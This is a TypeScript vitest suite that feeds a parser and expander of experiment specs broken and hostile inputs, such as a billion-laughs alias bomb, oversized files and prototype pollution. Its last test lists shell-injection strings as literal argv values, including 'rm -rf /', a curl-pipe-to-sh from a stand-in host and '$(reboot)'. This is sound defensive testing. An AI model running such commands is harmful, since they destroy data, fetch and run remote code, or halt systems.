import { spawn } from "node:child_process";
import { existsSync, readdirSync, readFileSync } from "node:fs";
import { basename, join } from "node:path";
import { fileURLToPath } from "node:url";
import { describe, expect, it } from "vitest";
import { parse as parseYaml } from "yaml";
import { AppError } from "../../server/domain/app-error.ts";
import { expandSweep } from "../../server/domain/spec/expand-sweep.ts";
import { MAX_SPEC_BYTES, parseSpec } from "../../server/domain/spec/parse-spec.ts";
import { SpecError, type SpecIssue } from "../../server/domain/spec/spec-issue.ts";

/**
 * The bad-spec corpus: every file in test/fixtures/bad-specs is a broken or hostile spec whose
 * first comment lines say what Scaleboard must answer (JSON files, having no comments, keep them
 * in a sidecar NN-name.expect):
 *
 *   # expect: LINE:COL text     a SpecError with an issue at LINE:COL whose `path: message` contains text
 *   # expect: TOO_LARGE         AppError("TOO_LARGE") without force (and it expands with force)
 *   # options: force            expand with { force: true }
 *   # not: text                 no issue contains text
 *   # isolate: why              run in a child process with a time and memory limit (may hang or blow up)
 *
 * Anything else thrown (TypeError, RangeError, a plain Error), or no error at all, fails.
 */

const ROOT = fileURLToPath(new URL("../../", import.meta.url));
const BAD = join(ROOT, "test/fixtures/bad-specs");
const HOSTILE_VALID = join(ROOT, "test/fixtures/hostile-but-valid-specs");

/**
 * Corpus files whose expectation is what a user needs but which the parser/expander does not
 * give yet (each is a reported finding). They run as `it.fails`, so the suite stays green while
 * the bug is there and goes red once it is fixed: then delete the entry.
 */
const KNOWN_FINDINGS: Record<string, string> = {};

type Expectation = {
  kind: "issue" | "too-large" | "valid";
  line?: number;
  column?: number;
  text?: string;
  not: string[];
  force: boolean;
  isolate: boolean;
};

/** Reads the `# key: value` header of a corpus file (or its .expect sidecar). */
function expectationOf(file: string): Expectation {
  const sidecar = file.replace(/\.[^.]+$/, ".expect");
  const header = file.endsWith(".json") ? readFileSync(sidecar, "utf8") : readFileSync(file, "utf8");
  const directives: [string, string][] = [];
  for (const line of header.split("\n")) {
    if (!line.startsWith("#")) break;
    const match = /^#\s*(expect|options|not|isolate):\s?(.*)$/.exec(line);
    if (match) directives.push([match[1]!, match[2]!.trim()]);
  }
  const expect = directives.find(([key]) => key === "expect")?.[1];
  if (!expect) throw new Error(`${basename(file)}: no "# expect:" line`);
  const base = {
    not: directives.filter(([key]) => key === "not").map(([, value]) => value),
    force: directives.some(([key, value]) => key === "options" && value.split(/[\s,]+/).includes("force")),
    isolate: directives.some(([key]) => key === "isolate"),
  };
  if (expect === "TOO_LARGE") return { kind: "too-large", ...base };
  if (expect === "valid") return { kind: "valid", ...base };
  const located = /^(\d+):(\d+)\s+(.+)$/.exec(expect);
  if (!located) throw new Error(`${basename(file)}: cannot read expectation "${expect}"`);
  return { kind: "issue", line: Number(located[1]), column: Number(located[2]), text: located[3]!, ...base };
}

function specFiles(dir: string): string[] {
  return readdirSync(dir)
    .filter((name) => /\.(ya?ml|json)$/.test(name))
    .sort()
    .map((name) => join(dir, name));
}

/** What parse + expand did, as plain data (so a child process can report it too). */
type Outcome =
  | { kind: "ok"; cells: number }
  | { kind: "SpecError"; message: string; issues: SpecIssue[] }
  | { kind: "AppError"; code: string; message: string }
  | { kind: "other"; name: string; message: string };

function outcomeOf(error: unknown): Outcome {
  if (error instanceof SpecError) return { kind: "SpecError", message: error.message, issues: error.issues };
  if (error instanceof AppError) return { kind: "AppError", code: error.code, message: error.message };
  const thrown = error instanceof Error ? error : new Error(String(error));
  return { kind: "other", name: thrown.constructor.name, message: thrown.message };
}

function runInProcess(source: string, fileName: string, force: boolean): Outcome {
  try {
    const cells = expandSweep(parseSpec(source, fileName), { force });
    return { kind: "ok", cells: cells.length };
  } catch (error) {
    return outcomeOf(error);
  }
}

const CHILD_SCRIPT = `
const { readFileSync } = await import("node:fs");
const root = process.env.CORPUS_ROOT;
const { parseSpec } = await import(root + "/server/domain/spec/parse-spec.ts");
const { expandSweep } = await import(root + "/server/domain/spec/expand-sweep.ts");
let outcome;
try {
  const cells = expandSweep(parseSpec(readFileSync(process.env.CORPUS_FILE, "utf8"), process.env.CORPUS_NAME), { force: process.env.CORPUS_FORCE === "1" });
  outcome = { kind: "ok", cells: cells.length };
} catch (error) {
  if (error && error.name === "SpecError") outcome = { kind: "SpecError", message: error.message, issues: error.issues };
  else if (error && error.name === "AppError") outcome = { kind: "AppError", code: error.code, message: error.message };
  else outcome = { kind: "other", name: error?.constructor?.name ?? "?", message: String(error?.message ?? error) };
}
process.stdout.write("OUTCOME " + JSON.stringify(outcome) + "\\n");
`;

// A safety net against hangs, not a speed check: generous, since CI machines are shared and slow.
const CHILD_TIMEOUT_MS = 45_000;

/** Runs parse + expand in a child with a time and heap limit: a hang or a blow-up fails one test, not the suite. */
function runIsolated(file: string, force: boolean): Promise<Outcome> {
  return new Promise((resolve) => {
    const child = spawn(
      process.execPath,
      ["--max-old-space-size=256", "--import", "tsx", "--input-type=module", "-e", CHILD_SCRIPT],
      {
        cwd: ROOT,
        env: {
          ...process.env,
          CORPUS_ROOT: ROOT.replace(/\/$/, ""),
          CORPUS_FILE: file,
          CORPUS_NAME: basename(file),
          CORPUS_FORCE: force ? "1" : "0",
        },
        stdio: ["ignore", "pipe", "pipe"],
      },
    );
    let stdout = "";
    let stderr = "";
    child.stdout.on("data", (chunk: Buffer) => (stdout += chunk.toString()));
    child.stderr.on("data", (chunk: Buffer) => (stderr += chunk.toString()));
    const timer = setTimeout(() => child.kill("SIGKILL"), CHILD_TIMEOUT_MS);
    child.on("close", (code, signal) => {
      clearTimeout(timer);
      const line = stdout.split("\n").find((text) => text.startsWith("OUTCOME "));
      if (line) return resolve(JSON.parse(line.slice("OUTCOME ".length)) as Outcome);
      const why =
        signal === "SIGKILL" ? `still running after ${CHILD_TIMEOUT_MS} ms (killed)` : `exited with ${code ?? signal}`;
      resolve({
        kind: "other",
        name: "ChildProcess",
        message: `${why}: ${stderr.trim().split("\n").slice(-3).join(" | ")}`,
      });
    });
  });
}

function describeIssues(outcome: Outcome): string {
  if (outcome.kind === "SpecError") return outcome.message;
  if (outcome.kind === "ok") return `no error: ${outcome.cells} cells`;
  if (outcome.kind === "AppError") return `AppError ${outcome.code}: ${outcome.message}`;
  return `${outcome.name}: ${outcome.message}`;
}

function checkBad(outcome: Outcome, expectation: Expectation, fileName: string) {
  if (expectation.kind === "too-large") {
    expect(outcome, describeIssues(outcome)).toMatchObject({ kind: "AppError", code: "TOO_LARGE" });
    expect((outcome as { message: string }).message).toContain(fileName);
    return;
  }
  expect(outcome.kind, `expected a SpecError, got ${describeIssues(outcome)}`).toBe("SpecError");
  if (outcome.kind !== "SpecError") return;
  const { line, column, text } = expectation;
  const formatted = outcome.issues.map((issue) => ({
    ...issue,
    text: issue.path ? `${issue.path}: ${issue.message}` : issue.message,
  }));
  const match = formatted.find((issue) => issue.line === line && issue.column === column && issue.text.includes(text!));
  expect(
    match,
    `no issue at ${line}:${column} containing ${JSON.stringify(text)}; got:\n${outcome.message}`,
  ).toBeDefined();
  expect(outcome.message).toContain(`${fileName}:${line}:${column}: `);
  for (const unwanted of expectation.not) {
    expect(
      formatted.filter((issue) => issue.text.includes(unwanted)).map((issue) => issue.text),
      `an issue contains ${JSON.stringify(unwanted)}`,
    ).toEqual([]);
  }
}

const badFiles = specFiles(BAD);

describe("bad-spec corpus", () => {
  it("has at least 30 broken specs, each with an expectation, and no stale known findings", () => {
    expect(badFiles.length).toBeGreaterThanOrEqual(30);
    for (const file of badFiles) expect(() => expectationOf(file)).not.toThrow();
    for (const name of Object.keys(KNOWN_FINDINGS)) expect(existsSync(join(BAD, name)), name).toBe(true);
    const sidecars = readdirSync(BAD).filter((name) => name.endsWith(".expect"));
    for (const sidecar of sidecars)
      expect(existsSync(join(BAD, sidecar.replace(/\.expect$/, ".json"))), sidecar).toBe(true);
  });

  for (const file of badFiles) {
    const name = basename(file);
    const expectation = expectationOf(file);
    if (expectation.isolate) continue;
    const known = KNOWN_FINDINGS[name];
    (known ? it.fails : it)(known ? `${name} (known finding: ${known})` : name, () => {
      checkBad(runInProcess(readFileSync(file, "utf8"), name, expectation.force), expectation, name);
    });
  }

  // Specs that could hang or exhaust memory run in child processes, side by side, so a regression
  // costs one timeout in all and cannot take the test runner down with it.
  describe.concurrent("in a child process, with a time and memory limit", () => {
    for (const file of badFiles) {
      const name = basename(file);
      const expectation = expectationOf(file);
      if (!expectation.isolate) continue;
      const known = KNOWN_FINDINGS[name];
      (known ? it.fails : it)(
        known ? `${name} (known finding: ${known})` : name,
        { timeout: CHILD_TIMEOUT_MS + 10_000 },
        async () => {
          checkBad(await runIsolated(file, expectation.force), expectation, name);
        },
      );
    }
  });

  it("the TOO_LARGE sweep expands when forced", () => {
    const file = badFiles.find((path) => expectationOf(path).kind === "too-large");
    expect(file).toBeDefined();
    const outcome = runInProcess(readFileSync(file!, "utf8"), basename(file!), true);
    expect(outcome).toEqual({ kind: "ok", cells: 101 * 101 });
  });

  it("the billion-laughs alias bomb is refused quickly", () => {
    const started = performance.now();
    const outcome = runInProcess(readFileSync(join(BAD, "37-billion-laughs.yaml"), "utf8"), "bomb.yaml", false);
    expect(outcome.kind).toBe("SpecError");
    expect(performance.now() - started).toBeLessThan(2_000);
  });

  it("refuses a spec over 1 MB before parsing it", () => {
    const valid =
      "project: big\nexperiment: big\ndataset: { kind: teacher }\nmodel: { family: mlp, width: 8 }\ntraining: { optimizer: { lr: 0.1 }, budget: { steps: 1 } }\n";
    const padding = `# ${"x".repeat(78)}\n`.repeat(Math.ceil(MAX_SPEC_BYTES / 80) + 1);
    const source = valid + padding;
    expect(Buffer.byteLength(source)).toBeGreaterThan(MAX_SPEC_BYTES);
    const outcome = runInProcess(source, "big.yaml", false);
    checkBad(
      outcome,
      { kind: "issue", line: 1, column: 1, text: "larger than 1 MB", not: [], force: false, isolate: false },
      "big.yaml",
    );
    // A spec just under the limit is read as usual.
    expect(runInProcess(valid + padding.slice(0, MAX_SPEC_BYTES - valid.length - 100), "under.yaml", false)).toEqual({
      kind: "ok",
      cells: 1,
    });
  });

  it("counts the limit in bytes, not characters", () => {
    const valid =
      "project: big\nexperiment: big\ndataset: { kind: teacher }\nmodel: { family: mlp, width: 8 }\ntraining: { optimizer: { lr: 0.1 }, budget: { steps: 1 } }\n";
    const source = `${valid}# ${"✓".repeat(400_000)}\n`; // about 400k characters, 1.2 MB
    expect(source.length).toBeLessThan(MAX_SPEC_BYTES);
    const outcome = runInProcess(source, "wide.yaml", false);
    expect(outcome.kind).toBe("SpecError");
    expect(describeIssues(outcome)).toContain("wide.yaml:1:1: the spec is larger than 1 MB");
  });

  it("leaves Object.prototype alone after the hostile specs", () => {
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(Object.prototype).not.toHaveProperty("polluted");
  });
});

describe("hostile but valid specs", () => {
  const files = specFiles(HOSTILE_VALID);

  it("has some", () => {
    expect(files.length).toBeGreaterThanOrEqual(3);
    for (const file of files) expect(expectationOf(file).kind).toBe("valid");
  });

  for (const file of files) {
    it(`${basename(file)} parses, expands, and keeps the runner's argv and env verbatim`, () => {
      const source = readFileSync(file, "utf8");
      const written = parseYaml(source) as { runner?: { argv?: string[]; env?: Record<string, string>; cwd?: string } };
      const parsed = parseSpec(source, basename(file));
      const cells = expandSweep(parsed);
      expect(cells.length).toBeGreaterThan(0);
      expect(written.runner?.argv?.length).toBeGreaterThan(0);
      expect(parsed.spec.runner).toMatchObject({ kind: "command", argv: written.runner!.argv });
      for (const cell of cells) {
        expect(cell.config.runner.kind).toBe("command");
        if (cell.config.runner.kind !== "command") continue;
        expect(cell.config.runner.argv).toEqual(written.runner!.argv);
        expect(cell.config.runner.env).toEqual(written.runner!.env ?? {});
        expect(cell.config.runner.cwd).toEqual(written.runner!.cwd);
      }
    });
  }

  it("keeps shell metacharacters as literal argv strings", () => {
    const parsed = parseSpec(
      readFileSync(join(HOSTILE_VALID, "01-shell-metacharacters-in-argv.yaml"), "utf8"),
      "argv.yaml",
    );
    const runner = parsed.spec.runner;
    expect(runner.kind).toBe("command");
    if (runner.kind !== "command") return;
    for (const literal of [
      "; rm -rf /",
      "$(whoami)",
      "`id`",
      "&& curl http://example.invalid/x | sh",
      "> /etc/passwd",
      "*",
      "$HOME",
      "line one\nline two",
      "--width={{model.width}}",
    ]) {
      expect(runner.argv).toContain(literal);
    }
    expect(runner.env.INJECT).toBe("$(reboot); `halt`");
  });

  it("leaves Object.prototype alone", () => {
    expect(Object.prototype).not.toHaveProperty("polluted");
  });
});
